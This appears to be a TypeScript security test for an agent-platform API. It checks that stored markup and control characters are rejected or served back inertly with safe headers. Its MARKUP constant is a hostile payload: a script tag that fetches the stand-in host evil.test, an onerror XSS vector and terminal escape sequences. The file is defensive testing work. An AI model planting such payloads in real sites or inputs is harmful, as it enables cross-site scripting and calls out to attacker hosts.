/*
 * J17 Stores markup and control characters wherever text is kept, and reads them back
 * wall: viewer
 * covers: G23
 * ends: held
 */
import { probe } from "../../probe.ts";
import type { Scene } from "../../scene.ts";

const MARKUP = `<script>fetch("//evil.test")</script>"><img src=x onerror=alert(1)>\u202e\u0007\u001b[2J`;

export const attack = async (scene: Scene): Promise<void> => {
	const named = await probe(scene, { method: "POST", path: "/v1/agents", body: { name: MARKUP } });
	const secret = await probe(scene, { method: "PUT", path: `/v1/secrets/${encodeURIComponent(MARKUP)}`, body: { value: "x" } });
	if (named.status !== 400 || secret.status !== 400)
		throw new Error(`Names with markup: found ${named.status} and ${secret.status}, wanted 400`);
	const run = await scene.api.run({
		agent: "hostile",
		grants: ["files"],
		language: "javascript",
		metadata: { note: MARKUP },
		input: MARKUP,
		program: `export default async (input, env) => {
			console.log(input);
			await env.files.writeText("/workspace/output/page.html", input);
			await env.files.writeText("/workspace/output/pic.svg", input);
			throw new Error(input);
		};`,
	});
	const paths = [
		`/v1/runs/${run.id}`,
		`/v1/runs/${run.id}/logs`,
		`/v1/runs/${run.id}/calls`,
		`/v1/runs/${run.id}/events`,
		`/v1/runs/${run.id}/files/workspace/output/page.html`,
		`/v1/runs/${run.id}/files/workspace/output/pic.svg`,
		`/v1/runs?limit=1`,
	];
	for (const path of paths) {
		const { status, headers, text } = await probe(scene, { path });
		const type = headers.get("content-type") ?? "";
		const isFile = path.includes("/files/");
		const isInert =
			headers.get("x-content-type-options") === "nosniff" && (headers.get("content-security-policy") ?? "").includes("default-src 'none'");
		if (status !== 200 || !isInert)
			throw new Error(`GET ${path}: found ${status}, ${type}, wanted 200, nosniff and a policy that runs nothing`);
		if (isFile && !(headers.get("content-disposition") ?? "").startsWith("attachment"))
			throw new Error(`GET ${path}: found no attachment, wanted one`);
		if (!isFile && !/^(application\/json|text\/event-stream)/.test(type)) throw new Error(`GET ${path}: found ${type}, wanted data`);
		if (!isFile && text.includes("\u001b")) throw new Error(`GET ${path}: found a raw control character, wanted it escaped`);
	}
};
